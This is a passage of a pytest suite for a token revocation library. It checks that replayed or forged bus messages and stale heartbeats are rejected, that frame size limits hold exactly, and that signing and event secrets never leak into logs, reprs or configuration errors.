    revocation = revoker.revoke(token=other)
    assert client.wait_applied(revocation.seq, 5)
    with pytest.raises(TokenRevoked):
        client.verify(other, check_database=True)
    assert client.verify(victim, check_database=True).user_id == "victim"


@pytest.mark.integration
def test_replayed_and_low_seq_signed_events_are_ignored_as_duplicates(
    client: RevocationClient, revoker: Revoker, issuer: TokenIssuer, settings: Settings
) -> None:
    keys = Keys.for_namespace(settings.namespace)
    raw = revoker._store.client
    signed = signed_codec(settings.namespace)
    victim = issuer.issue("victim")
    first = revoker.revoke(jti="first")
    assert client.wait_applied(first.seq, 5)
    old_frame = signed.events(raw.zrangebyscore(keys.log, first.seq, first.seq))
    before = client.status()
    frames = [
        old_frame,  # an exact replay
        old_frame,
        signed.events([forged_all(seq=first.seq)]),  # signed, but at an applied seq
        signed.events([forged_all(seq=1)]),
    ]
    assert publish_and_wait_dropped(client, raw, keys.channel, frames, 0) == Counter()
    after = client.status()
    assert (after.applied_seq, after.head_seq, after.size) == (
        before.applied_seq,
        before.head_seq,
        before.size,
    )
    assert client.verify(victim, check_database=True).user_id == "victim"
    second = revoker.revoke(token=victim)
    assert client.wait_applied(second.seq, 5)
    with pytest.raises(TokenRevoked):
        client.verify(victim, check_database=True)


@pytest.mark.integration
def test_a_replayed_old_heartbeat_does_not_make_a_stale_client_fresh(
    make_settings: Callable[..., Settings],
    start_worker: Callable[..., WorkerThread],
    start_client: Callable[..., RevocationClient],
) -> None:
    replay_settings = make_settings(max_staleness=1.0)
    worker = start_worker(replay_settings)
    client = start_client(replay_settings)
    assert client.wait_synced(10)
    channel = Keys.for_namespace(replay_settings.namespace).channel
    with Revoker(replay_settings) as revoker:
        raw = revoker._store.client
        # An eavesdropper records one genuine heartbeat off the channel.
        sniffer = raw.pubsub()
        sniffer.subscribe(channel)

        def next_heartbeat() -> bytes | None:
            message = sniffer.get_message(timeout=0.05)
            if message and message["type"] == "message" and b'"heartbeat"' in message["data"]:
                return bytes(message["data"])
            return None

        recorded = poll(next_heartbeat)
        sniffer.close()
        assert recorded is not None
        token = TokenIssuer(replay_settings).issue("alice")
        worker.stop()  # the worker is down: nothing is relayed any more
        assert poll(lambda: not client.status().fresh)
        revoker.revoke(token=token)  # committed, never relayed
        raw.publish(channel, recorded)  # the replay
        poll(lambda: client.status().fresh, timeout=1.0)
        with pytest.raises(TokenRevoked):
            client.verify(token, check_database=True)


def test_the_size_limit_of_a_frame_is_exact() -> None:
    codec = Codec(b"k" * 32, require_signature=True)
    base = orjson.dumps({"v": 1, "type": "heartbeat", "head": 3, "sent_at": 1.0})
    overhead = len(codec._frame(base)) - len(base)
    fits = codec._frame(base + b" " * (MAX_MESSAGE_BYTES - overhead - len(base)))
    assert len(fits) == MAX_MESSAGE_BYTES
    assert codec.decode(fits) == Heartbeat(3, 1.0)
    with pytest.raises(BadMessage) as caught:
        codec.decode(codec._frame(base + b" " * (MAX_MESSAGE_BYTES - overhead - len(base) + 1)))
    assert caught.value.reason == "too_large"


# -- 5. secrets stay secret ---------------------------------------------------

SIGNING_SECRET = "SIGNING-SECRET-" + secrets.token_hex(16)
EVENT_SECRET = "EVENT-SECRET-" + secrets.token_hex(16)
SHORT_SECRET = "SHORT-" + secrets.token_hex(4)
SECRETS = (SIGNING_SECRET, EVENT_SECRET, SHORT_SECRET)


def assert_no_secret(where: str, text: str) -> None:
    for secret in SECRETS:
        assert secret not in text, f"{where} leaks a secret: {text[:300]!r}"


@pytest.mark.integration
def test_secrets_never_appear_in_logs_reprs_or_errors(
    make_settings: Callable[..., Settings],
    start_worker: Callable[..., WorkerThread],
    start_client: Callable[..., RevocationClient],
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG, logger="revocation")
    secret_settings = make_settings(signing_key=SIGNING_SECRET, event_key=EVENT_SECRET)
    worker = start_worker(secret_settings)
    client = start_client(secret_settings)
    assert client.wait_synced(10)
    issuer = TokenIssuer(secret_settings)
    verifier_ = TokenVerifier(secret_settings)
    with Revoker(secret_settings) as revoker:
        token = issuer.issue("alice")
        assert client.verify(token, check_database=True).user_id == "alice"
        revocation = revoker.revoke(token=token, reason="leak test")
        assert client.wait_applied(revocation.seq, 5)
        with pytest.raises(TokenRevoked) as revoked:
            client.verify(token, check_database=True)
        channel = Keys.for_namespace(secret_settings.namespace).channel
        forger = Codec(bus_key("f" * 32, secret_settings.namespace), require_signature=True)
        dropped = publish_and_wait_dropped(
            client,
            revoker._store.client,
            channel,
            [forger.events([forged_all()]), b"{}.", signed_codec("x")._frame(b"{}")],
            3,
        )
        assert dropped == Counter({"bad_signature": 2, "unsigned": 1})

        # Store fallbacks: a client with no worker in its namespace (the store answers) ...
        lonely = start_client(
            make_settings(
                signing_key=SIGNING_SECRET,
                event_key=EVENT_SECRET,
                namespace=f"lonely-{secrets.token_hex(4)}",
            )
        )
        assert lonely.verify(issuer.issue("bob"), check_database=True).user_id == "bob"
        assert lonely.status().fallbacks >= 1
        # ... and one whose store is down, under the allow policy (logged).
        down = start_client(
            make_settings(
                signing_key=SIGNING_SECRET,
                event_key=EVENT_SECRET,
                redis_url=f"redis://127.0.0.1:{free_port()}/0",
                stale_policy="allow",
            )
        )
        assert down.verify(issuer.issue("carol"), check_database=True).user_id == "carol"
        assert down.status().stale_allowed == 1

        objects: list[Any] = [
            secret_settings,
            KeyRing(secret_settings),
            issuer,
            verifier_,
            client,
            revoker,
            worker.publisher,
            client.status(),
            lonely.status(),
            down.status(),
            revoked.value,
        ]
        for thing in objects:
            assert_no_secret(f"repr({type(thing).__name__})", repr(thing))
            assert_no_secret(f"str({type(thing).__name__})", str(thing))
        assert_no_secret("model_dump_json", secret_settings.model_dump_json())
        assert_no_secret("model_dump", str(secret_settings.model_dump()))

    # Settings that fail with a bad value next to the secrets.
    failures: list[dict[str, Any]] = [
        {"heartbeat_interval": "not a number"},
        {"max_staleness": 0.01},
        {"namespace": "bad namespace!"},
        {"redis_url": "http://" + SIGNING_SECRET},
        {"signing_kye": SIGNING_SECRET},
        {"event_key": SHORT_SECRET},
        {"signing_key": SHORT_SECRET},
        {"verification_keys": {"old": SHORT_SECRET}},
        {"verification_keys": SIGNING_SECRET},
        {"algorithm": "RS256"},
        {"algorithm": "RS256", "signing_key": "-----BEGIN PRIVATE KEY-----" + SIGNING_SECRET},
    ]
    errors = []
    for change in failures:
        values = {"signing_key": SIGNING_SECRET, "event_key": EVENT_SECRET, **change}
        with pytest.raises(ConfigError) as caught:
            bad = make_settings(**values)
            KeyRing(bad)  # key errors surface when the keys are parsed
            TokenVerifier(bad)
        errors.append(caught.value)
    assert len(errors) == len(failures)
    for error in errors:
        assert error.field, error
        assert_no_secret("ConfigError message", str(error))
        assert_no_secret("ConfigError repr", repr(error))
        assert_no_secret("ConfigError traceback", "".join(traceback.format_exception(error)))

    assert "dropped bus message" in caplog.text  # the capture did see the library's logs
    assert "allowed by policy" in caplog.text
    assert_no_secret("caplog.text", caplog.text)
    for record in caplog.records:
        assert_no_secret("log record", record.getMessage())


def test_malformed_json_secrets_in_the_environment_raise_config_error(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("REVOCATION_VERIFICATION_KEYS", '{"old": "' + SIGNING_SECRET)
    with pytest.raises(ConfigError) as caught:
        Settings(signing_key=KEY, event_key=EVENT_SECRET)
    assert caught.value.field == "verification_keys"
    assert_no_secret("ConfigError", "".join(traceback.format_exception(caught.value)))
